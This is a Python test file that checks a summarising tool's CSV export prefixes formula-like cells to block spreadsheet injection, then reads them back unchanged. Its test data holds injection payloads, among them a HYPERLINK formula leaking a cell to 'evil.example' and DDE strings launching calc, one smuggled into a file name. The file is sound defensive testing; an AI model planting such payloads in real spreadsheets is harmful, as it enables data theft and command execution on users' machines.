"""CSV exports are safe to open in a spreadsheet: OWASP's formula prefix, removed on read."""

from __future__ import annotations

import csv
from pathlib import Path

from click.testing import CliRunner

from summarise.cli import cli
from summarise.output.export import read_csv
from summarise.store import Store
from tests.factories import claim_for, document
from tests.factories import store_claims as save

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3 people were counted",
    "@SUM(A1:A9) was the total",
    "\tTabbed cell",
    "\rCarriage return",
    "'Tis already quoted",
]


def _hostile_database(db_path: Path) -> None:
    text = "\n".join(FORMULAS) + "\nA plain sentence stays as it is.\n"
    doc = document(text, source="=cmd|' /C calc'!A0.txt")
    with Store.open(db_path) as store:
        save(store, doc, *FORMULAS, "A plain sentence stays as it is.")
        assert store.get_claim(claim_for(doc, FORMULAS[0]).id) is not None


def _export(db_path: Path, out: Path, *extra: str) -> list[dict[str, str]]:
    result = CliRunner().invoke(
        cli, ["export", "--db", str(db_path), "--format", "csv", "-o", str(out), *extra]
    )
    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_cells_that_start_a_formula_are_prefixed_and_read_back_exactly(
    db_path: Path, tmp_path: Path
) -> None:
    _hostile_database(db_path)
    rows = _export(db_path, tmp_path / "claims.csv")
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    quotes = {row["quote"] for row in rows}
    assert {"'" + formula for formula in FORMULAS} <= quotes
    assert "A plain sentence stays as it is." in quotes  # nothing else changes
    assert {row["document_source"] for row in rows} == {"'=cmd|' /C calc'!A0.txt"}

    with Store.open(db_path) as store:
        stored = {claim.quote for claim in store.claims()}
    with (tmp_path / "claims.csv").open(newline="", encoding="utf-8") as handle:
        again = list(read_csv(handle))
    assert {claim.quote for claim in again} == stored
    assert {claim.document_source for claim in again} == {"=cmd|' /C calc'!A0.txt"}


def test_raw_csv_writes_cells_as_stored(db_path: Path, tmp_path: Path) -> None:
    _hostile_database(db_path)
    rows = _export(db_path, tmp_path / "raw.csv", "--raw-csv")
    assert set(FORMULAS) <= {row["quote"] for row in rows}
    with (tmp_path / "raw.csv").open(newline="", encoding="utf-8") as handle:
        again = list(read_csv(handle, formula_safe=False))
    assert set(FORMULAS) <= {claim.quote for claim in again}


def test_write_csv_guard_covers_every_text_column() -> None:
    from summarise.output.export import guard_formula

    for start in ("=", "+", "-", "@", "\t", "\r", "'"):
        assert guard_formula(start + "x") == "'" + start + "x"
    assert guard_formula("x=1") == "x=1"
